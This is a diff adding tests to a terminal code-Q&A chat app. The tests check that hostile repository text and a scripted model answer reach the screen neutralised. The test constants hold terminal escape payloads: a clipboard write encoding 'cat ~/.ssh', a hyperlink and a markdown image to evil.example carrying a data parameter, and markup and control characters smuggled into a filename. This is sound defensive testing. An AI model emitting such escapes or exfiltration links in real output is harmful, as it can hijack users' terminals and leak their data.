@@ -593,3 +593,97 @@ async def test_index_locked_by_another_process_is_used_as_it_is(shop):
             await ask(pilot, "where is the reorder level checked?")
             await wait_for(pilot, lambda: not app.answering and answers(app))
             assert app.chat.query_one(CitationList).citations
+
+
+# ---- hostile text -------------------------------------------------------------------------
+# A file's lines, a file's name and the model's answer are the repository's and the model's
+# words: none may drive the terminal, and none is ever read as markup.
+
+ESCAPES = (
+    "\x1b]52;c;Y2F0IH4vLnNzaA==\x07 \x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\ "
+    "\x9b2J \x9d0;title\x9c \x1b[5mblink \u202eevil\u202c \x1bP1$r\x1b\\"
+)
+MARKUP = "[reverse][link=evil.example]"
+HOSTILE_FILE = f"{MARKUP}\x1b]0;t\x07notes.py"
+FORBIDDEN = (
+    {chr(c) for c in range(0x20)} - {"\n", "\t"}
+    | {"\x7f"}
+    | {chr(c) for c in range(0x80, 0xA0)}
+    | {chr(c) for c in range(0x202A, 0x202F)}
+    | {chr(c) for c in range(0x2066, 0x206A)}
+)
+
+
+def raw_controls(text: str) -> list[str]:
+    return sorted({repr(char) for char in text if char in FORBIDDEN})
+
+
+def drawn(widget) -> str:
+    """The characters `widget` and the widgets inside it draw now, line by line."""
+    return "\n".join(
+        strip.text
+        for part in [widget, *widget.walk_children()]
+        for strip in part.render_lines(part.size.region)
+    )
+
+
+@pytest.fixture(scope="module")
+def hostile_shop(tmp_path_factory) -> tuple[Path, Path]:
+    root = tmp_path_factory.mktemp("hostile_chat")
+    repo = make_shop(root)
+    (repo / HOSTILE_FILE).write_text(
+        f"# the reorder level, as the warehouse sees it {ESCAPES}\n"
+        f"def reorder_level_note():\n    return '{ESCAPES}'\n"
+    )
+    index_dir = root / "index"
+    build_index(repo, IndexSettings(index_dir=index_dir, embed_model=EMBED_MODEL))
+    return repo, index_dir
+
+
+def repeat_the_escapes(messages: list[dict]) -> str:
+    """A model that cites the hostile file, repeats its escapes, writes markup and links out."""
+    if messages[0]["content"].startswith("You plan searches"):
+        return "{}"
+    labels = [m for m in LABEL.finditer(messages[-1]["content"]) if "notes.py" in m["path"]]
+    if not labels:
+        return "Nothing in the excerpts answers that."
+    cited = f"{labels[0]['path']}:{labels[0]['start']}-{labels[0]['end']}"
+    return (
+        f"It is in `{cited}`: {ESCAPES} {MARKUP}shouted ![x](https://evil.example/?d=1) "
+        "and `gone\x1b]0;t\x07.py:1-2`."
+    )
+
+
+async def test_hostile_file_and_answer_reach_the_screen_visible_and_never_as_markup(
+    hostile_shop, monkeypatch
+):
+    install_scripted(monkeypatch, otherwise=repeat_the_escapes)
+    app = chat_app(*hostile_shop, model="scripted/chat")
+    async with app.run_test(size=(160, 48)) as pilot:
+        await wait_for(pilot, ready(app))
+        await ask(pilot, "what does the reorder level note return?")
+        await wait_for(pilot, lambda: not app.answering and answers(app))
+        await pilot.pause(0.2)
+        assert raw_controls(app.export_screenshot()) == []
+        answer = drawn(answers(app)[0])
+        assert "␛]52;c;" in answer and f"{MARKUP}shouted" in answer
+        assert "evil.example/?d=1" not in answer
+        [citation] = app.chat.query_one(CitationList).citations
+        assert citation.path == HOSTILE_FILE
+        assert "notes.py" in drawn(app.chat.query_one(SourcesPanel))
+        assert "[reverse]" in drawn(app.chat.query_one(SourcesPanel))
+        notices = " ".join(n.message for n in app._notifications)
+        assert "gone␛]0;t␇.py" in notices  # the removed citation, named visibly
+        assert not any(n.markup for n in app._notifications)
+
+        app.chat.query_one(CitationList).focus()
+        await pilot.press("enter")
+        await wait_for(pilot, lambda: isinstance(app.screen, CodeViewerScreen))
+        await pilot.pause(0.2)
+        assert raw_controls(app.export_screenshot()) == []
+        assert "[reverse][link=evil.example]␛]0;t␇notes.py" in drawn(
+            app.screen.query_one("#viewer-title")
+        )
+        view = app.screen.query_one(CodeView)
+        assert view.line_count == 3  # one stand-in per control: the lines stay where they are
+        assert "␛]52;c;" in drawn(view)
